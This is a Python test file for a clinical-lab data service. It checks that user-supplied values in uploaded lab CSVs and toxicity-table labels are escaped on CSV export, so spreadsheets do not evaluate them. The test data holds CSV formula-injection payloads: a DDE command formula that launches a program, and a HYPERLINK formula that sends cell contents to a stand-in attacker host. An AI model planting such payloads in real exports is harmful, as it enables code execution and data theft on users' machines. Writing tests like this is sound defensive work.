"""What somebody uploaded or named is no formula in a CSV that another opens."""

import csv

from tests.server.jobs.stored import Stored

_RUN = "=cmd|' /C calc'!A1"


def _upload(service: Stored) -> str:
    labs = f'"{_RUN}",when,what,value,unit,lln,uln\nP 1,2011-04-01,ALT,50,U/L,0,40\n'
    options = {"map": [f"patient={_RUN}", "collected=when", "analyte=what"]}
    answer = service.client.post(
        "/v1/studies/default/batches", files={"labs": ("a.csv", labs)}, data=options
    )
    assert answer.status_code == 202, answer.text
    service.work()
    batch: str = answer.json()["id"]
    return batch


def test_a_rejected_column_is_no_formula(service: Stored) -> None:
    batch = _upload(service)
    path = f"/studies/default/batches/{batch}/rejects"
    told = service.client.get(f"/v1{path}", headers={"Accept": "text/csv"})
    assert told.text == f"row,line,column,reason,stored\n1,2,'{_RUN},patient-name,False\n"
    assert service.client.get(f"{path}.csv").text == told.text
    (reject,) = service.get(f"/v1{path}")["rejects"]
    assert reject["column"] == _RUN  # JSON holds it as it is, and nothing opens that.


def test_a_label_of_the_table_is_no_formula(service: Stored) -> None:
    link = '=HYPERLINK("http://evil.example/?"&A1,"nausea")'
    rows = [{"label": link, "terms": ["Nausea"]}, {"label": "-5", "terms": ["Vomiting"]}]
    assert service.client.put("/v1/studies/default", json={"rows": rows}).status_code == 200
    table = "/v1/studies/default/toxicity-table"
    shown = service.client.get(table, headers={"Accept": "text/csv"}).text
    labels = {row["label"] for row in csv.DictReader(shown.splitlines())}
    assert {f"'{link}", "-5"} <= labels
    assert link not in labels
    assert link in service.get(table)["not_collected"]
